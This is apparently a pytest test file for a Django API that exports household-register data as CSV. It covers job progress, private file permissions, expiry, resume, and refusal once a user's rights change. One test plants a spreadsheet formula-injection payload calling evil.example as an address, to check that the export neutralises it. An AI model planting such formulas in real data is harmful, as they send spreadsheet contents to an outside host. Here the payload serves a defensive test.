"""Background jobs through the API: exports, progress and report, download, expiry, resume."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from accounts.models import UserAccess
from accounts.roles import Role
from core import jobs
from core.models import Job, JobStatus
from households import services
from tests import factories as f
from tests.jobs import run_jobs

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


def export(client, **params):
    """POST an export: queued at once (202); the worker runs it; returns the job after."""
    r = client.post("/api/v1/jobs/", {"kind": "export_households", **params})
    assert r.status_code == 202, r.json()
    assert r.json()["status"] == "queued" and r.json()["done"] == 0
    run_jobs()
    return client.get(f"/api/v1/jobs/{r.json()['id']}/").json()


def download(client, job_id) -> bytes:
    r = client.get(f"/api/v1/jobs/{job_id}/download/")
    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(r.streaming_content)


def rows_of(client, job_id):
    return list(csv.DictReader(io.StringIO(download(client, job_id).decode("utf-8-sig"))))


def test_export_of_the_area_with_progress_and_download(ward_api, ward, rural, media):
    mine = f.household(
        ward,
        members=[
            f.member("Chu Văn An"),
            f.member("Chu Thị Bình", relationship="spouse", sex="female"),
        ],
    )
    f.household(rural)
    job = export(ward_api)
    assert job["status"] == "succeeded" and job["done"] == job["total"] == 2
    assert job["progress"] == 1.0 and job["counts"] == {"rows": 2}
    rows = rows_of(ward_api, job["id"])
    assert {r["household_code"] for r in rows} == {mine.code}
    assert {r["full_name"] for r in rows} == {"Chu Văn An", "Chu Thị Bình"}
    # private: the file 0600 in directories 0700, and nothing else left behind
    path = media / job["report"]["file"]
    assert path.stat().st_mode & 0o777 == 0o600
    assert (media.stat().st_mode & 0o777, path.parent.stat().st_mode & 0o777) == (0o700, 0o700)
    assert [p.name for p in path.parent.iterdir()] == [path.name]
    analyst = f.client_for(f.user(Role.ANALYST, communes=[ward]))
    masked = rows_of(analyst, export(analyst)["id"])
    assert {r["full_name"] for r in masked} == {""} and {r["sex"] for r in masked} == {
        "male",
        "female",
    }
    # jobs are private to who started them
    assert analyst.get(f"/api/v1/jobs/{job['id']}/").status_code == 404


def test_a_household_without_a_present_member_is_exported_once(ward_api, ward, province_officer):
    """Merged into another, its members moved: still a household of the register, so still a
    row of the export (its member columns empty), in code order with the others."""
    source = f.household(ward, members=[f.member("Chu Văn An")])
    target = f.household(ward, members=[f.member("Lê Văn Ba")])
    services.household_merge(
        actor=province_officer,
        source=source,
        target=target,
        expected_version=1,
        reason="Nhập hộ",
        on=timezone.localdate(),
    )
    job = export(ward_api)
    rows = rows_of(ward_api, job["id"])
    assert job["counts"] == {"rows": 3} and job["done"] == job["total"] == 3
    codes = [r["household_code"] for r in rows]
    assert codes == sorted(codes)
    [alone] = [r for r in rows if r["household_code"] == source.code]
    assert alone["household_status"] == "merged" and alone["address"] == source.address
    assert [alone[c] for c in ("member_id", "full_name", "date_of_birth", "citizen_id")] == [""] * 4
    merged_in = {r["full_name"] for r in rows if r["household_code"] == target.code}
    assert merged_in == {"Chu Văn An", "Lê Văn Ba"}


def test_export_opens_safely_in_a_spreadsheet(ward_api, ward):
    """A formula typed into a field comes out as text; Vietnamese survives Excel (BOM)."""
    f.household(ward, address='=HYPERLINK("http://evil.example/?"&A2,"Xem")')
    content = download(ward_api, export(ward_api)["id"])
    assert content.startswith(b"\xef\xbb\xbf")
    [row] = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert row["address"] == '\'=HYPERLINK("http://evil.example/?"&A2,"Xem")'
    assert row["full_name"] == "Nguyễn Văn An"


def test_an_expired_export_is_gone(ward_api, ward, settings):
    f.household(ward)
    job = export(ward_api)
    settings.FILE_RETENTION_HOURS = 24
    Job.objects.filter(pk=job["id"]).update(finished_at=timezone.now() - timedelta(hours=25))
    r = ward_api.get(f"/api/v1/jobs/{job['id']}/download/")
    assert r.status_code == 410 and r["Content-Type"] == "application/problem+json"
    assert r.json()["code"] == "file_expired" and r.json()["status"] == 410


def test_failed_job_is_queued_again_and_resumes(ward_api, ward, ward_officer):
    f.household(ward)
    job = Job.objects.create(
        kind="export_households",
        params={},
        created_by=ward_officer,
        status="failed",
        error="worker lost",
        attempts=1,
        finished_at=timezone.now(),
    )
    assert ward_api.get(f"/api/v1/jobs/{job.id}/download/").status_code == 409
    r = ward_api.post(f"/api/v1/jobs/{job.id}/resume/")
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert r.json()["finished_at"] is None
    assert run_jobs() == 1
    job = ward_api.get(f"/api/v1/jobs/{job.id}/").json()
    assert job["status"] == "succeeded" and job["attempts"] == 2 and job["error"] == ""
    r = ward_api.post(f"/api/v1/jobs/{job['id']}/resume/")
    assert r.status_code == 409 and r.json()["code"] == "job_done"


def test_resume_never_starts_a_second_run(ward_api, ward_officer):
    """While a worker's lease holds the job, resume is refused; once it expired (the worker
    died), the job is queued again and the next worker takes it over."""
    job = jobs.enqueue("export_households", {}, ward_officer)
    running = jobs.claim(job.pk)
    assert running is not None and jobs.claim(job.pk) is None  # exclusive
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 409 and r.json()["code"] == "job_running"
    assert r["Content-Type"] == "application/problem+json"
    assert run_jobs() == 0  # nothing to claim: the live run holds it
    Job.objects.filter(pk=job.pk).update(lease_expires_at=timezone.now() - timedelta(seconds=1))
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 202 and r.json()["status"] == "queued"
    assert run_jobs() == 1
    assert Job.objects.get(pk=job.pk).status == JobStatus.SUCCEEDED
    # the first run, alive after all, can no longer write to the job
    with pytest.raises(jobs.LeaseLost):
        jobs.progress(running, done=1)


def test_resume_after_the_files_expired_is_gone(ward_api, ward_officer, settings):
    job = Job.objects.create(
        kind="registry_sync",
        params={"path": "registry-sync/gone.ndjson", "format": "ndjson"},
        created_by=ward_officer,
        status="failed",
        finished_at=timezone.now() - timedelta(hours=settings.FILE_RETENTION_HOURS + 1),
    )
    r = ward_api.post(f"/api/v1/jobs/{job.pk}/resume/")
    assert r.status_code == 410 and r.json()["code"] == "file_expired"
    assert Job.objects.get(pk=job.pk).status == JobStatus.FAILED


# ---------------------------------------------------------- results under the rights they were made


def _status_and_text(client, job_id) -> tuple[int, str]:
    r = client.get(f"/api/v1/jobs/{job_id}/download/")
    if r.status_code != 200:
        return r.status_code, ""
    return 200, b"".join(r.streaming_content).decode("utf-8-sig")


def test_an_export_is_refused_after_the_user_lost_personal_data_rights(ward, media):
    """An export holds what its requester could read when it ran: once their role has no
    `view_personal` (analyst), its names and citizen IDs are no longer handed out (409), as
    an idempotent replay under other rights is not."""
    f.household(ward, members=[f.member("Chu Văn Xuất")])
    officer = f.user(Role.COMMUNE_OFFICER, communes=[ward])
    client = f.client_for(officer)
    job = export(client)
    assert "Chu Văn Xuất" in _status_and_text(client, job["id"])[1]

    grant = UserAccess.objects.get(user=officer)
    grant.role = Role.ANALYST
    grant.save()
    r = client.get(f"/api/v1/jobs/{job['id']}/download/")
    assert r.status_code == 409 and r.json()["code"] == "job_rights_changed"
    assert r["Content-Type"] == "application/problem+json"
    assert "again" in r.json()["detail"]
    # the job itself is still theirs to follow, its result withheld
    shown = client.get(f"/api/v1/jobs/{job['id']}/").json()
    assert shown["rights_changed"] is True and shown["report"] == {} and shown["counts"] == {}
    # a new export, under the rights of now, has no names
    again = export(client)
    status, text = _status_and_text(client, again["id"])
    assert status == 200 and "Chu Văn Xuất" not in text


def test_an_export_is_refused_after_the_users_area_was_narrowed(ward, rural, media):
    """The same once the user's area no longer holds the exported households."""
    theirs = f.household(rural, address="Thôn Cách Xa", members=[f.member("Lý Văn Xa")])
    officer = f.user(Role.COMMUNE_OFFICER, communes=[ward, rural])
    client = f.client_for(officer)
    job = export(client)

    grant = UserAccess.objects.get(user=officer)
    grant.communes.set([ward])  # rural is no longer theirs
    assert client.get(f"/api/v1/households/{theirs.id}/").status_code == 404
    status, text = _status_and_text(client, job["id"])
    assert status == 409 and "Lý Văn Xa" not in text and theirs.code not in text
    r = client.get(f"/api/v1/jobs/{job['id']}/download/", HTTP_ACCEPT_LANGUAGE="vi")
    assert "Hãy chạy lại (POST /api/v1/jobs/)" in r.json()["detail"]


def test_an_export_is_refused_after_the_users_area_was_widened(ward, rural, media):
    """Any change of role or area refuses, a wider area too (the rule of idempotent
    replays): the result is handed out only under the rights it was made with."""
    officer = f.user(Role.COMMUNE_OFFICER, communes=[ward])
    client = f.client_for(officer)
    job = export(client)
    UserAccess.objects.get(user=officer).communes.set([ward, rural])
    assert client.get(f"/api/v1/jobs/{job['id']}/download/").status_code == 409


def test_an_export_is_handed_out_while_the_rights_are_unchanged(ward, rural, media):
    """No false refusals: the user's rights saved again unchanged, or the grant's other
    communes changed back, still download; and a national administrator downloads another
    user's export (their rights hold everything an export can)."""
    f.household(ward, members=[f.member("Chu Văn Xuất")])
    officer = f.user(Role.COMMUNE_OFFICER, communes=[ward])
    client = f.client_for(officer)
    job = export(client)
    grant = UserAccess.objects.get(user=officer)
    grant.save()  # a new stamp, the same rights
    assert "Chu Văn Xuất" in _status_and_text(client, job["id"])[1]
    grant.communes.set([ward, rural])
    grant.communes.set([ward])  # and back
    assert "Chu Văn Xuất" in _status_and_text(client, job["id"])[1]
    shown = client.get(f"/api/v1/jobs/{job['id']}/").json()
    assert shown["rights_changed"] is False and shown["counts"] == {"rows": 1}
    admin = f.client_for(f.user(None, superuser=True))
    assert "Chu Văn Xuất" in _status_and_text(admin, job["id"])[1]


def test_rights_when_the_export_ran_not_when_it_was_queued(ward, rural, media):
    """An export made under rights that changed after it was queued (before a worker ran it)
    holds what the rights of the run show: handed out under those, refused under the rights
    it was queued with."""
    f.household(rural, members=[f.member("Lý Văn Xa")])
    officer = f.user(Role.COMMUNE_OFFICER, communes=[ward])
    client = f.client_for(officer)
    r = client.post("/api/v1/jobs/", {"kind": "export_households"})
    grant = UserAccess.objects.get(user=officer)
    grant.communes.set([ward, rural])
    run_jobs()
    status, text = _status_and_text(client, r.json()["id"])
    assert status == 200 and "Lý Văn Xa" in text
    grant.communes.set([ward])
    assert client.get(f"/api/v1/jobs/{r.json()['id']}/download/").status_code == 409


def test_a_job_from_before_rights_were_recorded_is_refused(ward_api, ward_officer, ward, media):
    """A job stored without the rights it was made under (created before they were
    recorded) is never handed out: nothing to compare with is a change."""
    job = export(ward_api)
    Job.objects.filter(pk=job["id"]).update(access="")
    r = ward_api.get(f"/api/v1/jobs/{job['id']}/download/")
    assert r.status_code == 409 and r.json()["code"] == "job_rights_changed"


def test_a_registry_syncs_rejected_records_follow_the_same_rule(ward, rural, media):
    """The rejected records of a registry sync (GET /registry-sync/{id}/rejected.csv) are a
    job's result too: refused once the uploader's area changed."""
    registry = f.user(Role.REGISTRY_SYSTEM, communes=[ward, rural])
    client = f.client_for(registry)
    upload = SimpleUploadedFile(
        "registry.ndjson", b'{"external_id": "HK-1"}\n', content_type="application/x-ndjson"
    )
    r = client.post("/api/v1/registry-sync/", {"file": upload}, format="multipart")
    assert r.status_code == 202, r.json()
    run_jobs()
    url = f"/api/v1/registry-sync/{r.json()['id']}/rejected.csv"
    assert client.get(url).status_code == 200
    UserAccess.objects.get(user=registry).communes.set([ward])
    r = client.get(url)
    assert r.status_code == 409 and r.json()["code"] == "job_rights_changed"
